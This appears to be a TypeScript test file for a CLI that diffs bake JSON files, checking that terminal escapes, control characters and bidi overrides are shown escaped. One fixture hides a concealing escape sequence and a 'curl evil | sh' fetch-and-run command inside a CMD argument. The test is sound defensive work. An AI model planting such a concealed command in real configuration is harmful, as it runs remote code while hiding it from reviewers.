// No command prints a control character raw: a terminal escape in a bake file
// that `diff` reads (or anywhere else) is shown as \u001b, and JSON output
// stays the same JSON.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { printable } from '../../src/problems/printable.ts';
import { runCli } from '../helpers/cli.ts';
import { testdir } from '../helpers/testdir.ts';

const bake = (arg: string) => JSON.stringify({ target: { app: { args: { CMD: arg } } } });
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('printed text has no raw control characters', () => {
  test('diff of bake files holding an escape sequence and a bidi override', async () => {
    const dir = testdir({ 'old.json': bake('serve'), 'new.json': bake('serve\u001b[8m; curl evil | sh\u202e') });
    const text = await runCli(['diff', 'old.json', 'new.json'], dir);
    assert.equal(text.code, 0, text.stderr);
    assert.doesNotMatch(text.stdout, RAW);
    assert.match(text.stdout, /~ CMD: serve -> serve\\u001b\[8m; curl evil \| sh\\u202e/);
    const json = await runCli(['diff', 'old.json', 'new.json', '--json'], dir);
    assert.doesNotMatch(json.stdout, RAW);
    const strings: string[] = [];
    JSON.parse(json.stdout, (_key, value: unknown) => (typeof value === 'string' && strings.push(value), value));
    assert.ok(strings.includes('serve\u001b[8m; curl evil | sh\u202e'), 'the JSON still holds the real value');
  });

  test('a value with a tab or line break is quoted in listings', async () => {
    const dir = testdir({ 'old.json': bake('a'), 'new.json': bake('a\tb\nc') });
    const run = await runCli(['diff', 'old.json', 'new.json'], dir);
    assert.match(run.stdout, /~ CMD: a -> "a\\tb\\nc"/);
  });

  test('printable keeps tabs and line breaks, escapes the rest as JSON does', () => {
    assert.equal(printable('a\tb\nc'), 'a\tb\nc');
    assert.equal(printable('x\u001b[2Jy\r\u0000\u007f\u0085\u2028\ufeff\ud800'), 'x\\u001b[2Jy\\u000d\\u0000\\u007f\\u0085\\u2028\\ufeff\\ud800');
    assert.equal(JSON.parse(printable(JSON.stringify({ v: 'q\u202eq\u0085' }))).v, 'q\u202eq\u0085');
  });
});
